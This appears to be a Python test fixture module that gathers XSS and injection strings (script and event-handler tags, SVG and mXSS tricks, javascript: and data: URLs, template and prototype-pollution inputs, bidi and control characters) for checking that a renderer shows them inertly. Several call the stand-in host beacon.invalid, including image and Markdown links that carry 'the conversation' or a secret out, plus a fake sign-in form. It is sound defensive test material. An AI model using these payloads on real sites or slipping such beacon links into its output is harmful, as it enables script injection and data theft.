"""Texts that do something where a page takes them for markup, script, a style or an address; forms that are public
knowledge (OWASP's cheat sheets on XSS filter evasion and on prototype pollution, and what Markdown renderers fell for).

Each calls `ran()`, which the tests put on `window`, opens a dialog, goes somewhere, or asks `beacon.invalid` for
something. Where one is shown as what it is, it does none of these.
"""

from urllib.parse import quote

BEACON = "http://beacon.invalid"
RAN = "ran(document.domain)"

MARKUP = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</textarea></title></style><script>{RAN}</script>",
    f'<script src="{BEACON}/script.js"></script>',
    f"<ScRiPt\n>{RAN}</sCrIpT >",
    f"<img src=x onerror={RAN}>",
    f'"><img src=x onerror={RAN}>',
    f"' autofocus onfocus={RAN} tabindex=0 '",
    f"<img/src='{BEACON}/pixel.gif?what=the+conversation'>",
    f'<img srcset="{BEACON}/1x.png 1x, {BEACON}/2x.png 2x" alt="">',
    f"<svg onload={RAN}><circle r=9 /></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RAN}"><text x=9 y=9>go</text></a></svg>',
    f'<svg><use href="{BEACON}/sprite.svg#x"/></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RAN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f"<details open ontoggle={RAN}>more</details>",
    f"<video><source onerror={RAN}></video>",
    f"<body onload={RAN} onpageshow={RAN}>",
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RAN}"></iframe>',
    f'<object data="{BEACON}/object.html"></object><embed src="{BEACON}/embed.swf">',
    f'<meta http-equiv="refresh" content="0;url={BEACON}/refresh">',
    f'<base href="{BEACON}/">',
    f'<link rel=stylesheet href="{BEACON}/style.css"><link rel=prefetch href="{BEACON}/next">',
    f'<form action="{BEACON}/form"><input name=password><button autofocus>Sign in again</button></form>',
    f"<style>@import '{BEACON}/import.css'; body {{ background: url({BEACON}/style.png) }}</style>",
    f'<div style="position:fixed;inset:0;background:url({BEACON}/attribute.png)">a new page</div>',
    f"&lt;img src=x onerror={RAN}&gt; &#60;script&#62;{RAN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
)
"""Takes for HTML."""

ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt&colon;{RAN}",
    f"java\tscript:{RAN}//https://example.org",
    f"data:text/html,<script>parent.{RAN}</script>",
    f"[your invoice](javascript:{RAN}) and [again](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    f"![the chart]({BEACON}/markdown.png?q=secret) ![ref][1]\n\n[1]: {BEACON}/reference.png",
    f"<{BEACON}/autolink> {BEACON}/plain //beacon.invalid/relative",
    "file:///etc/passwd vbscript:msgbox(1) blob:null/0",
)
"""Takes for links and pictures."""

LANGUAGES = (
    "{{constructor.constructor('ran(1)')()}} ${ran(1)} #{ran(1)} <%= ran(1) %> [[${ran(1)}]]",
    '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "toString": "<b>no</b>"}',
    '{"$$typeof": "Symbol(react.element)", "type": "img", "props": {"dangerouslySetInnerHTML": {"__html": "<b>"}}}',
    "constructor",
    "__proto__",
)
"""Takes for templates, properties and components."""

CHARACTERS = (
    "paid \u202e000,1\u202c and \u2066left\u2069 \u200fright\u200e",
    "zero\u200bwidth\u200d and\u2060 soft\u00adhyphen\ufeff",
    "Z\u0351\u036b\u0343a\u0301\u0327\u0322l\u0309\u0345g\u0338o\u0321 \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\x1b[31mred\x1b[0m \x1b]8;;http://beacon.invalid\x07link\x1b]8;;\x07 \x08\x7f\x9b2J",
    "nothing\x00<b>after</b>\x00",
    "w" * 3000,
)
"""What is hard to show."""

CORPUS = (*MARKUP, *ADDRESSES, *LANGUAGES, *CHARACTERS)

NAMES = tuple(each for each in CORPUS if each.isprintable() and len(each) <= 250)
"""Those that are names to Moat: headers, keys and accounts take no control characters and nothing longer."""


def header(text: str) -> bytes:
    """As a header carries it."""
    return text.encode()


def placed(text: str) -> str:
    """As a part of an address."""
    return quote(text, safe="")
